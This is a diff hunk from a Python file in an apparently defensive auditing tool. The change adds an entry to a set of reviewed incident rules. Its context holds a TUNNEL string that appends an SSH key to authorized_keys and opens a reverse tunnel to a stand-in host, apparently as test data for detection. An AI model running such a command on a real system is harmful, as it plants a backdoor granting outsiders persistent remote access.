@@ -17,7 +17,7 @@ from auditor.render.document import report_object
 from auditor.settings import shipped_rulesets
 
 ROWS = yaml.safe_load((shipped_rulesets() / "incidents.yaml").read_text(encoding="utf-8"))["incidents"]
-REVIEWED = {"addresses-swept"}
+REVIEWED = {"hidden-and-minded", "addresses-swept"}
 TUNNEL = "cat k.pub >> ~/.ssh/authorized_keys\nssh -N -R 2222:localhost:22 ops@203.0.113.5\n"
 
 
